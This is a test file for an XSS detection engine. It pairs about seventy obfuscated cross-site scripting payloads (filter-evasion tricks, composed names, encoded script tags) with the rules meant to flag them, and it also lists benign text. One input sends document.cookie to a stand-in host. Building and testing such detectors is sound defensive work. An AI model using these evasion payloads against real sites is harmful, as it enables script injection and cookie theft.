import { describe, expect, it } from "vitest";
import { inspectText } from "../engine/inspect-text.ts";

const rulesOf = (text: string): readonly string[] => inspectText(text).map(({ rule }) => rule);

describe("markup and scripts in their less usual forms", () => {
  it.each([
    ["<k:script src=//example.org/k></k:script>", "xss.script-source"],
    ["<script k:href='//example.org/k'", "xss.script-source"],
    ["<script language='VBScript'>MsgBox 4</script>", "xss.script-element"],
    ["<v:vmlframe src='//example.org/k.vml'/>", "xss.frame"],
    [
      "<k xmlns:q='http://www.w3.org/2001/XInclude'><q:include href='//example.org/k'/></k>",
      "xss.xml",
    ],
    // Letters of CSS by their numbers.
    ["<p style='width:\\65\\78pression(k)'>", "xss.style-expression"],
    ["<p style='-\\6d oz-b\\0i\\0nding:url(//example.org/k)'>", "xss.style-binding"],
    // Expressions that a framework evaluates.
    ["<p ng-click=\"$event.view.constructor('k')\">", "xss.template"],
    ["<p x-init='alert(7)'>", "xss.template"],
    ["{{ [7].reduce(value.alert, 7) }}", "xss.template"],
    ["k'><h1>k</h1>", "xss.element-breakout"],
    // Functions that are handed on.
    ["class k extends `$" + "{alert`7`}` {}", "xss.script-call"],
    ["confirm.apply(0,[7])", "xss.script-call"],
    ["[7].with(0,alert).pop()(7)", "xss.passed-function"],
    ["[7].some(confirm)", "xss.passed-function"],
    ["[].find.call`$" + "{alert}7`", "xss.passed-function"],
    ['k=top[\\"pro\\"+\\"mpt\\"](7)', "xss.computed-member"],
    // Names in pieces, whatever stands between them.
    ["a='pro',b='mpt';top[a+b](7)", "xss.composed-name"],
    ["k=1?'conf':7;m=1?'irm':7;k+m", "xss.composed-name"],
    ["k='javasc';k+=('ript:go'+0)", "xss.composed-name"],
    ["';k=[('ev')+new Array+'al']", "xss.composed-name"],
    ["it's \"done\" and 'twas ours = k; a='pro',b='mpt';top[a+b](7)", "xss.composed-name"],
    // Functions that are chosen, taken from a literal or made of a text.
    ["(7,prompt)(7)", "xss.passed-function"],
    ["(7?prompt:0)(7)", "xss.passed-function"],
    ["[7,prompt,7][1](7)", "xss.passed-function"],
    ["onblur=onfocus=prompt", "xss.passed-function"],
    ["k=7..eval,k(m)", "xss.passed-function"],
    ["k=.7.eval,k(m)", "xss.passed-function"],
    ["k={}.eval,k(m)", "xss.passed-function"],
    ["Function('go()')()", "xss.constructor"],
    ["setTimeout`go`", "xss.script-call"],
    // Members by a name that is spelled.
    ["top['k'+'m'].call(7)", "xss.computed-member"],
    ["window?.['k'](7)", "xss.computed-member"],
    ["self[17795081..toString(36)](7)", "xss.computed-member"],
    ["k=document['cookie']", "xss.document-read"],
    // Code of another host.
    ["import('//example.org/k')", "xss.script-source"],
    ["$.getScript('https://example.org/k')", "xss.script-source"],
    ["location=name", "xss.navigation"],
    // What is left when a filter takes the inner element out.
    ["<scri<script>pt src=//example.org/k>", "xss.script-element"],
    ["to=javascript:var{k:onerror}={k:alert}", "xss.javascript-text"],
    // Functions that the language, the page or a movie calls by itself.
    ["+{valueOf:prompt}", "xss.passed-function"],
    ["'k'instanceof{[Symbol.hasInstance]:confirm}", "xss.passed-function"],
    ["var{k:onblur}={k:confirm};throw 7", "xss.passed-function"],
    ["queueMicrotask(confirm)", "xss.passed-function"],
    ["Array.from([7],prompt)", "xss.passed-function"],
    ["'k'.replace(/k/,confirm)", "xss.passed-function"],
    ["top.__proto__.k=confirm", "xss.passed-function"],
    ["k=m?7:7,(k)setter=7?0:prompt,k=7", "xss.passed-function"],
    ["player.swf?ready=prompt&k=7", "xss.passed-function"],
    ["Reflect.get(top,'prompt')(7)", "xss.passed-function"],
    ["fetch(k).then(eval)", "xss.passed-function"],
    // Members by what some call or some other name says.
    ["self[atob('cHJvbXB0')](7)", "xss.computed-member"],
    ["self[Object.keys(self)[7]](7)", "xss.computed-member"],
    ["this['prompt'](7)", "xss.computed-member"],
    ["with(document)k(m)", "xss.computed-member"],
    // Words out of what is no word.
    ["[+!+[]]+(!![]+[])[+[]]", "xss.spelled-code"],
    ["k=7==7&&'mpt';m=7==7&&'pro';k+m", "xss.spelled-code"],
    ["k=''+7;m=k[17]+k[4]+k[9]+k[2]", "xss.spelled-code"],
    // What the page before has left, and what is sent with it.
    ["eval(name)", "xss.script-call"],
    ["setTimeout(location.hash)", "xss.script-call"],
    ["fetch(`//example.org/$" + "{document.cookie}`)", "xss.document-read"],
    ["importScripts('//example.org/k')", "xss.script-call"],
    // Schemes and names that are cut, filled up or written in other letters.
    ["java\tscript:k()", "xss.javascript-text"],
    ["prom&zwnj;pt(7)", "xss.script-call"],
    ["\\u{0000000070}rompt(7)", "xss.script-call"],
    ["<\u017fcript src=//example.org/k></\u017fcript>", "xss.script-source"],
    ["data:application/xhtml+xml,<k/>", "xss.data-text"],
    // Elements of other namespaces and of frameworks.
    ["<x:script xmlns:x='http://www.w3.org/1999/xhtml'>k()</x:script>", "xss.script-element"],
    ["<script>'use strict';k()</script>", "xss.script-element"],
    ["<script>void k()</script>", "xss.script-element"],
    ["<component is=script src=//example.org/k>", "xss.script-source"],
    ["<k ng-include=\"'//example.org/k'\">", "xss.frame"],
    ["<xsl:value-of select=\"document('//example.org/k')\"/>", "xss.xml"],
    ["<ilayer src=//example.org/k>", "xss.frame"],
    ["<style>input[value^=k]{background:url(//example.org/k)}</style>", "xss.style-import"],
  ])("VAL-10: %s meets %s", (text, rule) => {
    expect(rulesOf(text)).toContain(rule);
  });

  it.each([
    "items.filter(confirm)",
    "Write `{alert}` where the text of the message goes",
    "<p ng-repeat='meal in meals' ng-click='open(meal)'>",
    "the prompt (see above), the alert, and confirm",
    "against [XSS](https://example.org/xss) and JSON/eval (#12)",
    "JavaScript: var or let?",
    "const all = ['dev', 'al'] + [\"e\", \"val\"]",
    "the files menu-1.2.eval, and page 2. eval, or 'soup'. Alert, said he",
    "title = 'document' + 'ation'",
    "this['on' + name](event)",
    "columns=['name','alert'] + (1, alert)",
    "new Function('a', 'b', 'go()') makes a function; Function('go()') too",
    "await import('./menu.js') or import('node:fs')",
    "Does it (prompt: yes, alert) work? (7)",
    "The setTimeout `function` waits, location = name of a place",
    "[![](menu.png)](a) [![](soup.png)](b) [![](week.png)](c)",
    "sum = a[0]+a[1]+a[2]+a[3], as in 'sums'",
    "if 1 == 1 then the 'answer' is 42 == 42",
    "{type:alert} and {get: confirm}; x.then(prompt)",
    "const name = eval (the name) of a function",
    "We agreed with (this) and with (document) in hand",
    "Read the script: it is short. A manuscript: it is long.",
    "player.swf and level=alert",
    "k = n > 7 ? 1 : confirm",
    "columns['alert'] = 7; window[mode](menu)",
    "<button\n onClick={() => {\n  save(menu)\n }}>Save</button>",
    "Its form is `(prompt, answers)`, and (`--eval` or `-e`) runs; a `javascript:` address",
    '`<button onclick="save">` is what they had, or was it a listener?',
    "that's not a fault, that's JavaScript: [10, 9, 1].sort()",
    "```js run\nalert( 4 ** 2 );\n```",
    "at [eval]:1:1 at run (node:vm:7)",
  ])("VAL-15: %s", (text) => {
    expect(rulesOf(text)).toEqual([]);
  });
});
